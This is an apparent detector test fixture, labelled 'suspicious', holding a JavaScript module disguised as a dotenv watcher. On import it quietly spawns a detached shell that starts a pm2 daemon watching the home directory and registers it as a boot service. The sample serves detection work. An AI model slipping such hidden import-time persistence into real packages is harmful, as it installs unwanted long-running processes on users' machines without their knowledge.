// expect: suspicious
// source: corpus global-package-install/esm-import-pm2-global (a dotenv watcher whose side-effect import
// installs a daemon globally, then has pm2 start it and write a boot service with `pm2 startup`)
import { spawn } from 'node:child_process';
import { platform } from 'node:os';

const win = platform() === 'win32';

function run() {
  const script = [
    'pm2 start envd-daemon --name envd -- --watch-home',
    'pm2 save --force',
    win ? 'pm2-startup install' : 'pm2 startup',
  ].join(win ? ' & ' : ' ; ');
  spawn(script, { shell: true, detached: true, stdio: 'ignore' }).unref();
}

setTimeout(() => { try { run(); } catch {} }, 1500).unref();
export function watchEnv() { return run; }
